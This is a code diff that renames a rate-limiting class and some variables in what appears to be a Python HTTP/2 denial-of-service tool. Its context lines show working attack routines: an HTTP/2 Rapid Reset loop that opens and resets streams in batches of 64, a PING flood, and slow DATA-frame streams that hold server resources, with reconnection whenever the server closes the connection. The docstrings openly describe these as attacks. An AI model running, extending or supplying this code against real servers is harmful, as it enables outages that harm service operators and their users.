@@ -69,7 +69,7 @@ class Over(Exception):
     """The attack's time is over."""
 
 
-class Pace:
+class Rate:
     """Limits all connections of an attack to its rates, until it is over."""
 
     def __init__(self, plan: Plan) -> None:
@@ -100,9 +100,9 @@ class Pace:
 
 
 class Connection:
-    def __init__(self, target: str, plan: Plan, pace: Pace, sent: Sent) -> None:
+    def __init__(self, target: str, plan: Plan, rate: Rate, sent: Sent) -> None:
         self._target = target
-        self._pace = pace
+        self._rate = rate
         self._plan = plan
         self._sent = sent
         self._next = 1
@@ -118,7 +118,7 @@ class Connection:
 
     async def run(self) -> None:
         """Attacks until the time is over; reconnects when the server closes the connection."""
-        while not self._pace.over:
+        while not self._rate.over:
             host, _, port = self._target.rpartition(":")
             self._next, self._window, self._why = 1, 65535, ""
             for stream in list(self._windows):
@@ -153,13 +153,13 @@ class Connection:
         while True:
             if len(self._windows) < self._limit:
                 stream = await self._begin()
-                begun = struct.pack(">BI", 0, MESSAGE_BYTES)
+                opening = struct.pack(">BI", 0, MESSAGE_BYTES)
                 if self._plan.first:
                     message = bytes.fromhex(self._plan.first)
-                    begun = struct.pack(">BI", 0, len(message)) + message + begun
-                self._writer.write(_frame(DATA, 0, stream, begun))
-                self._window -= len(begun)
-                self._windows[stream] -= len(begun)
+                    opening = struct.pack(">BI", 0, len(message)) + message + opening
+                self._writer.write(_frame(DATA, 0, stream, opening))
+                self._window -= len(opening)
+                self._windows[stream] -= len(opening)
                 rest[stream] = MESSAGE_BYTES - 1
             moved = False
             for stream in list(rest):
@@ -167,8 +167,8 @@ class Connection:
                     del rest[stream]
                     continue
                 count = min(self._window, self._windows[stream], rest[stream], MAX_FRAME_BYTES)
-                if count > 0 and not self._pace.waits:
-                    await self._pace.spend(count=count)
+                if count > 0 and not self._rate.waits:
+                    await self._rate.spend(count=count)
                     if stream not in self._windows:
                         continue
                     self._writer.write(_frame(DATA, 0, stream, bytes(count)))
@@ -176,7 +176,7 @@ class Connection:
                     self._windows[stream] -= count
                     rest[stream] -= count
                     self._held[stream] = self._held.get(stream, 0) + count
-                    self._pace.held_bytes += count
+                    self._rate.held_bytes += count
                     self._sent.bytes += count
                     moved = True
             await self._drain()
@@ -185,7 +185,7 @@ class Connection:
 
     async def rapid_reset(self) -> None:
         while True:
-            await self._pace.spend(calls=64)
+            await self._rate.spend(calls=64)
             for _ in range(64):
                 stream = await self._begin(paced=True)
                 self._writer.write(_frame(RESET, 0, stream, struct.pack(">I", 8)))
@@ -195,14 +195,14 @@ class Connection:
 
     async def ping(self) -> None:
         while True:
-            await self._pace.spend(calls=64)
+            await self._rate.spend(calls=64)
             self._writer.write(_frame(PING, 0, 0, bytes(8)) * 64)
             self._sent.pings += 64
             await self._drain()
 
     async def _begin(self, *, paced: bool = False) -> int:
         if not paced:
-            await self._pace.spend(calls=1)
+            await self._rate.spend(calls=1)
         path = self._plan.paths[self._sent.calls % len(self._plan.paths)]
         headers = {
             ":method": "POST",
@@ -225,7 +225,7 @@ class Connection:
 
     def _forget(self, stream: int) -> None:
         self._windows.pop(stream, None)
-        self._pace.held_bytes -= self._held.pop(stream, 0)
+        self._rate.held_bytes -= self._held.pop(stream, 0)
 
     async def _room(self) -> None:
         while len(self._windows) >= self._limit:
@@ -233,12 +233,12 @@ class Connection:
 
     async def _wait(self) -> None:
         """Waits for a frame from the server, or a moment."""
-        if self._pace.over:
+        if self._rate.over:
             raise Over
         self._changed.clear()
-        waiter = asyncio.ensure_future(self._changed.wait())
-        await asyncio.wait([waiter], timeout=0.05)
-        waiter.cancel()
+        waiting = asyncio.ensure_future(self._changed.wait())
+        await asyncio.wait([waiting], timeout=0.05)
+        waiting.cancel()
         if self._why:
             raise Lost
 
@@ -297,8 +297,8 @@ ATTACKS: dict[str, Callable[[Connection], Coroutine[Any, Any, None]]] = {
 
 
 async def attack(target: str, plan: Plan) -> Sent:
-    sent, pace = Sent(), Pace(plan)
-    await asyncio.gather(*(Connection(target, plan, pace, sent).run() for _ in range(plan.connections)))
+    sent, rate = Sent(), Rate(plan)
+    await asyncio.gather(*(Connection(target, plan, rate, sent).run() for _ in range(plan.connections)))
     return sent
 
 
